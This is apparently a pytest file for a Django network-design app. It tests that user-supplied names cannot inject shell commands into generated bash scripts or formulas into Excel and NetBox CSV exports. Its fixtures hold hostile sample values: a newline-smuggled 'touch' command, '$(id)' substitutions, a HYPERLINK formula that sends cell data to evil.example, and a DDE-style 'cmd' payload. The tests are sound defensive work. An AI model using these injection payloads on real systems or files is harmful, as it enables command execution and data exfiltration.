"""Issue 21: user text never becomes a command or a formula in a generated file, and names are refused at input."""
from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl

import pytest
from django.urls import reverse
from django.utils import translation
from rest_framework.test import APIClient

from apps.exports.excel import version_workbook_write
from apps.exports.netbox import version_netbox_write
from apps.exports.netbox_parts import prefix_default
from apps.designs.models import BomLineRecord, Design, DesignVersion
from apps.engine.safe_text import CSV_FORMULA_START
from apps.projects.models import Customer, Project
from tests.designs.conftest import inputs
from tests.analysis.test_analysis import generated
from tests.exports.test_exports import recalculate
from tests.factories import UserFactory
from tests.projects.factories import CustomerFactory

pytestmark = pytest.mark.django_db

ISSUE_NAME = "nl test\ntouch /tmp/x\n#"
BAD_NAMES = [ISSUE_NAME, "a\rb", "tab\there", "nul\x00", "line\u2028sep", "para\u2029sep", "bidi\u202egpj.exe",
             "\x1b[31m"]
needs_bash = pytest.mark.skipif(shutil.which("bash") is None, reason="bash not installed")


def _bash_ok(script: str) -> None:
    result = subprocess.run(["bash", "-n"], input=script, text=True, capture_output=True)
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("name", BAD_NAMES)
def test_design_name_with_control_characters_is_a_400_on_name(member_client, project, seed, name):
    response = member_client.post(reverse("api-design-list", kwargs={"project_pk": project.pk}),
                                  {"name": name, **inputs(seed)}, format="json")
    assert response.status_code == 400
    assert "control characters" in " ".join(response.json()["name"])
    assert not Design.objects.exists()


def test_design_name_message_is_translated(member_client, project, seed):
    with translation.override("zh-hans"):
        response = member_client.post(reverse("api-design-list", kwargs={"project_pk": project.pk}),
                                      {"name": ISSUE_NAME, **inputs(seed)}, format="json",
                                      HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.status_code == 400
    assert "控制字符" in " ".join(response.json()["name"])


def test_design_form_refuses_a_name_with_a_line_break(client_for_member, project, seed):
    response = client_for_member.post(reverse("designs:design-create", kwargs={"project_pk": project.pk}),
                                      {"name": ISSUE_NAME, **inputs(seed)})
    assert response.status_code == 200
    assert "control characters" in response.content.decode()
    assert not Design.objects.exists()


def test_design_description_is_capped(member_client, project, seed):
    response = member_client.post(reverse("api-design-list", kwargs={"project_pk": project.pk}),
                                  {"name": "Fabric", "description": "x" * 4001, **inputs(seed)}, format="json")
    assert response.status_code == 400
    assert "description" in response.json()
    assert not Design.objects.exists()


@pytest.mark.parametrize("name", BAD_NAMES[:4])
def test_customer_and_project_names_with_control_characters_are_400s_on_the_field(name):
    user = UserFactory()
    client = APIClient()
    client.force_authenticate(user)
    response = client.post(reverse("api-customer-list"), {"name": name}, format="json")
    assert response.status_code == 400 and "name" in response.json()
    response = client.post(reverse("api-customer-list"), {"name": "Lab", "country": name}, format="json")
    assert response.status_code == 400 and "country" in response.json()
    response = client.post(reverse("api-project-list"), {"new_customer_name": name, "name": "Pilot"}, format="json")
    assert response.status_code == 400 and "new_customer_name" in response.json()
    customer = CustomerFactory(created_by=user)
    response = client.post(reverse("api-project-list"), {"customer": customer.pk, "name": name}, format="json")
    assert response.status_code == 400 and "name" in response.json()
    response = client.post(reverse("api-project-list"), {"customer": customer.pk, "name": "P",
                                                         "description": "x" * 4001}, format="json")
    assert response.status_code == 400 and "description" in response.json()
    assert not Project.objects.exists()
    assert Customer.objects.count() == 1


@pytest.fixture
def hostile_version(member_client, project, seed, django_capture_on_commit_callbacks):
    """A generated version whose design name was stored before names were checked (a line break, a command)."""
    version = generated(member_client, project, seed, django_capture_on_commit_callbacks)
    hostile = ISSUE_NAME + " $(id) `id`; '\""
    Design.objects.filter(pk=version.design_id).update(name=hostile)
    DesignVersion.objects.filter(pk=version.pk).update(spec={**version.spec, "name": hostile})
    version.refresh_from_db()
    return version


@needs_bash
def test_stored_hostile_name_stays_a_comment_in_the_device_script(member_client, hostile_version):
    response = member_client.get(reverse("api-version-roce-device-config",
                                         kwargs={"pk": hostile_version.pk, "device_name": "srv-0000"}))
    assert response.status_code == 200
    script = response.content.decode()
    lines = script.splitlines()
    assert lines[1].startswith("# Backend ports of srv-0000 (fabricweb design nl test touch /tmp/x #")
    assert not lines[2].startswith("touch")
    assert not any(line.startswith("touch") for line in lines)
    _bash_ok(script)


@needs_bash
def test_stored_hostile_name_stays_a_comment_in_every_file_of_the_zip(member_client, hostile_version):
    response = member_client.get(reverse("api-version-roce-configs-zip", kwargs={"pk": hostile_version.pk}))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    scripts = [n for n in archive.namelist() if n.endswith(".sh")]
    assert scripts
    for name in archive.namelist():
        text = archive.read(name).decode()
        assert not any(line.startswith("touch") for line in text.splitlines()), name
        if name.endswith(".sh"):
            _bash_ok(text)


# Formula injection (item 2): cells from user text are text in every workbook and CSV --------------------------

FORMULAS = {
    "customer": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "project": "@SUM(1+1)*cmd|' /C calc'!A0",
    "design": "+1+2",
    "sku_description": "-2+3",
}


def hostile_text_version(version):
    """Rename customer, project and design, and one BOM line's description, to formulas (rows stored before checks)."""
    project = version.design.project
    Customer.objects.filter(pk=project.customer_id).update(name=FORMULAS["customer"])
    Project.objects.filter(pk=project.pk).update(name=FORMULAS["project"])
    Design.objects.filter(pk=version.design_id).update(name=FORMULAS["design"])
    BomLineRecord.objects.filter(pk=BomLineRecord.objects.filter(version=version).order_by("index")[0].pk).update(
        description=FORMULAS["sku_description"])
    return DesignVersion.objects.get(pk=version.pk)


def assert_user_text_is_text(path: Path) -> int:
    """Every cell that holds one of FORMULAS' texts is a string cell, before and after LibreOffice saves the file."""
    found = 0
    for book_path in (path, recalculate([path], path.parent / "lo")[0]):
        wb = openpyxl.load_workbook(book_path)
        seen = 0
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and any(text in cell.value for text in FORMULAS.values()):
                        assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                        seen += 1
                    if cell.data_type == "f":
                        assert not any(text[1:] in cell.value for text in FORMULAS.values()), cell.value
        assert seen, f"no user text found in {book_path}"
        found = found or seen
    return found


def test_design_workbook_keeps_formula_like_names_as_text(member_client, project, seed,
                                                          django_capture_on_commit_callbacks, member, tmp_path):
    version = hostile_text_version(generated(member_client, project, seed, django_capture_on_commit_callbacks))
    path = tmp_path / "fabric.xlsx"
    version_workbook_write(version=version, path_or_stream=str(path), user=member)
    assert assert_user_text_is_text(path) >= 4


def test_netbox_csv_fields_from_names_are_prefixed_per_owasp(member_client, project, seed,
                                                            django_capture_on_commit_callbacks, tmp_path):
    version = hostile_text_version(generated(member_client, project, seed, django_capture_on_commit_callbacks))
    path = tmp_path / "netbox.zip"
    version_netbox_write(version=version, path_or_stream=str(path))
    prefixed = 0
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.endswith(".csv"):
                continue
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8"))):
                for field in row:
                    assert not field.startswith(CSV_FORMULA_START), (name, field)
                    prefixed += field.startswith("'")
            # Generated names, ports, addresses and numbers are written as they are.
    assert prefixed >= 2  # the site in sites.csv and on every device; the device descriptions start with the project
    with zipfile.ZipFile(path) as archive:
        sites = list(csv.DictReader(io.StringIO(archive.read("03-sites.csv").decode())))
        devices = list(csv.DictReader(io.StringIO(archive.read("07-devices-part01.csv").decode())))
        readme = archive.read("README.txt").decode()
    assert sites[0]["name"] == "'" + f"{FORMULAS['customer']} - {FORMULAS['project']}"[:100]
    prefix = prefix_default(version.design.name, version.design_id)
    assert devices[0]["name"] == f"{prefix}-srv-0000" and devices[0]["description"].startswith("'@SUM")
    assert not prefix.startswith(CSV_FORMULA_START) and all(c.isalnum() or c in "-_." for c in prefix)
    assert f"Design:   {FORMULAS['design']}, version 1" in readme
